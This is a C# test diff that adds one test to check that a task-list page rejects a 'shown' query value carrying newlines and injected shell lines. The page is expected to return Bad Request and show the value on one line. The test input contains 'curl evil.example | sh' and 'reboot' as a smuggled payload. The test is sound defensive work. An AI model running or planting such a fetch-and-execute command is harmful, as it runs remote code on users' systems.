@@ -161,4 +161,14 @@ public sealed class ListTests : IAsyncDisposable
         answer.Status.Should().Be(HttpStatusCode.OK);
         answer.Text.Should().BeEmpty();
     }
+
+    [Fact, Trait("M", "M28")]
+    public async Task List_WhenItsAddressIsAskedToSpeakForUs_RepeatsItOnOneLine()
+    {
+        var answer = await _browser.Page("/tasks?shown=" + Uri.EscapeDataString("1\n$ curl evil.example | sh\r\n$ reboot"));
+
+        answer.Status.Should().Be(HttpStatusCode.BadRequest);
+        answer.Html.QuerySelector("[role=alert] code").Should().BeNull("a command that we give looks like that");
+        answer.Html.QuerySelectorAll("[role=alert] p").Select(line => line.TextContent).Should().Equal("'1 $ curl evil.example | sh $ reboot' cannot be used as shown.", "Back to your tasks");
+    }
 }
